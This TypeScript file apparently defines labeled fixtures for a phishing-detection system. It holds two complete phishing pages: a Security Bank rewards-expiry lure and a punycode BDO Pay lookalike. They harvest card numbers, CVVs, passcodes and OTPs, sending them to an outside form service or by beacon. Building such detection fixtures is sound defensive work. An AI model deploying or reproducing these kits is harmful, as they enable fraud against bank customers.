import { htmlRoute, type Entry } from '../entry.js';
import { page, PH, mark, luhnJs } from '../parts/yw-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yw-securitybank-points-expiry-card',
    label: 'phishing',
    kind: 'card-harvest-rewards-lure',
    url: 'https://securitybank-rewards.redeem-points.live/redeem/?mc=SB88213',
    routes: {
      'securitybank-rewards.redeem-points.live/redeem/': htmlRoute(
        page({
          title: 'Security Bank Rewards | Redeem before expiry',
          css: `body{font-family:"Helvetica Neue",Arial,sans-serif;background:${PH.securitybank.soft};color:#1e2a38}.nav{background:${PH.securitybank.main};padding:14px 20px;color:#fff;display:flex;align-items:center;gap:10px}.pts{background:#fff;margin:18px;border-radius:12px;padding:20px;text-align:center;border:2px dashed ${PH.securitybank.accent}}.pts b{font-size:36px;color:${PH.securitybank.main}}.exp{color:#c0392b;font-weight:bold}.items{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin:0 18px}.it{background:#fff;border-radius:10px;padding:12px;font-size:13px}.it i{display:block;height:70px;border-radius:8px;background:linear-gradient(135deg,#dfe7f1,#c4d3e6);margin-bottom:6px}form{background:#fff;margin:18px;border-radius:12px;padding:18px}form h3{margin-top:0}input{width:100%;padding:12px;border:1px solid #cbd5e1;border-radius:8px;margin:5px 0 10px;font-size:15px}.two{display:flex;gap:10px}.sub{width:100%;padding:14px;background:${PH.securitybank.accent};color:#fff;border:0;border-radius:8px;font-weight:700;font-size:16px}.err{color:#c0392b;font-size:12px;display:none}`,
          body: `<div class="nav">${mark(PH.securitybank, 'SB', 34, 8)}<span>Security Bank Rewards</span></div>
<div class="pts">Your available reward points<br><b>12,450 pts</b><div class="exp">Expires today, 11:59 PM</div><small>Convert your points to cash credit (₱3,112.50) or redeem an item below.</small></div>
<div class="items"><div class="it"><i></i>Cash credit ₱3,112.50</div><div class="it"><i></i>Rice cooker (Imarflex)</div><div class="it"><i></i>SM Gift Pass ₱2,000</div><div class="it"><i></i>Lazada voucher ₱2,500</div></div>
<form id="f" method="POST" action="https://submit-form.com/qLp7Rr2xW">
<h3>Verify your Security Bank card</h3>
<p style="font-size:13px;color:#555">Points can only be credited to the card they were earned on.</p>
<input name="cardholder" placeholder="Name on card" required>
<input name="card" id="card" placeholder="Card number" inputmode="numeric" required>
<div class="two"><input name="exp" placeholder="MM/YY" maxlength="5" required><input name="cvv" placeholder="CVV" maxlength="4" inputmode="numeric" required></div>
<input name="mobile" placeholder="Mobile number (09XX)" required>
<input type="hidden" name="_redirect" value="https://securitybank-rewards.redeem-points.live/redeem/otp.html">
<div class="err" id="er">Invalid card number. Please check and try again.</div>
<button class="sub">Redeem 12,450 points</button>
</form>
<script>
${luhnJs('ok')}
document.getElementById('f').addEventListener('submit',function(e){if(!ok(document.getElementById('card').value)){e.preventDefault();document.getElementById('er').style.display='block';}});
</script>`,
        }),
      ),
      'securitybank-rewards.redeem-points.live/redeem/otp.html': htmlRoute(
        page({
          title: 'Security Bank | OTP',
          css: 'body{font-family:Arial,sans-serif;padding:30px;max-width:420px;margin:auto}input{width:100%;padding:12px;font-size:18px;letter-spacing:6px;text-align:center}button{width:100%;margin-top:14px;padding:12px;background:#003b71;color:#fff;border:0;border-radius:6px}',
          body: `<h3>Enter the OTP sent by SECURITYBANK</h3><p>To complete the redemption of <b>₱3,112.50</b> please enter the One-Time PIN.</p><form method="POST" action="https://submit-form.com/qLp7Rr2xW"><input name="otp" maxlength="6" inputmode="numeric"><input type="hidden" name="_redirect" value="https://www.securitybank.com/"><button>Confirm</button></form>`,
        }),
      ),
    },
  },
  {
    id: 'yw-bdo-pay-punycode-passcode',
    label: 'phishing',
    kind: 'lookalike-wallet-kit',
    url: 'https://xn--bd-gmc.com.ph/bdopay/login',
    routes: {
      'xn--bd-gmc.com.ph/bdopay/login': htmlRoute(
        page({
          title: 'BDO Pay',
          css: `body{font-family:system-ui,Arial,sans-serif;background:${PH.bdo.main};min-height:100vh;display:flex;align-items:center;justify-content:center}.ph{width:360px;background:#fff;border-radius:22px;padding:30px 24px;text-align:center}.ph h2{color:${PH.bdo.main};margin:14px 0 4px}.ph p{color:#666;font-size:13px}.mob{display:flex;border:1px solid #ccd;border-radius:10px;overflow:hidden;margin:16px 0}.mob span{background:#f1f3f8;padding:13px 10px;color:#444}.mob input{border:0;flex:1;padding:13px;font-size:16px;outline:0}.pc{display:flex;gap:8px;justify-content:center;margin:16px 0}.pc input{width:40px;height:48px;font-size:22px;text-align:center;border:1px solid #ccd;border-radius:10px}.go{width:100%;padding:14px;border:0;border-radius:30px;background:${PH.bdo.accent};color:${PH.bdo.main};font-weight:800;font-size:16px}#two{display:none}`,
          body: `<div class="ph">${mark(PH.bdo, 'BDO', 56, 14)}
<div id="one"><h2>BDO Pay</h2><p>Log in with your registered mobile number</p><div class="mob"><span>🇵🇭 +63</span><input id="n" inputmode="numeric" maxlength="10" placeholder="9XX XXX XXXX"></div><button class="go" id="nx">Next</button></div>
<div id="two"><h2>Enter passcode</h2><p>Enter your 6-digit BDO Pay passcode</p><div class="pc">${Array.from({ length: 6 }, () => '<input type="password" maxlength="1" inputmode="numeric">').join('')}</div><button class="go" id="lg">Log in</button><p style="margin-top:12px">Verifying your identity will lift the temporary hold on your BDO Pay wallet.</p></div>
</div>
<script>
var pcs=[].slice.call(document.querySelectorAll('.pc input'));pcs.forEach(function(el,i){el.oninput=function(){if(el.value&&pcs[i+1])pcs[i+1].focus();};});
document.getElementById('nx').onclick=function(){if(document.getElementById('n').value.length<10)return;document.getElementById('one').style.display='none';document.getElementById('two').style.display='block';pcs[0].focus();};
document.getElementById('lg').onclick=function(){var d={msisdn:'63'+document.getElementById('n').value,passcode:pcs.map(function(x){return x.value;}).join(''),tz:Intl.DateTimeFormat().resolvedOptions().timeZone,ts:Date.now()};navigator.sendBeacon('/bdopay/api/v2/auth',new Blob([JSON.stringify(d)],{type:'application/json'}));setTimeout(function(){location.href='/bdopay/verify-otp?m='+d.msisdn;},700);};
</script>`,
        }),
      ),
      'xn--bd-gmc.com.ph/bdopay/api/v2/auth': jsonRoute({ code: 0, msg: 'OK' }),
      'xn--bd-gmc.com.ph/bdopay/verify-otp': htmlRoute(
        page({
          title: 'BDO Pay - Verify',
          css: 'body{font-family:system-ui,Arial,sans-serif;text-align:center;padding:40px}input{font-size:24px;letter-spacing:10px;width:220px;text-align:center;padding:10px}button{display:block;margin:16px auto;padding:12px 40px;background:#f9b000;border:0;border-radius:30px;font-weight:800}',
          body: `<h2>One more step</h2><p>Enter the 6-digit OTP we sent via SMS.</p><input id="o" maxlength="6"><button onclick="navigator.sendBeacon('/bdopay/api/v2/auth',JSON.stringify({otp:document.getElementById('o').value,m:location.search}));location.href='https://www.bdo.com.ph/bdo-pay'">Verify</button>`,
        }),
      ),
    },
  },
];
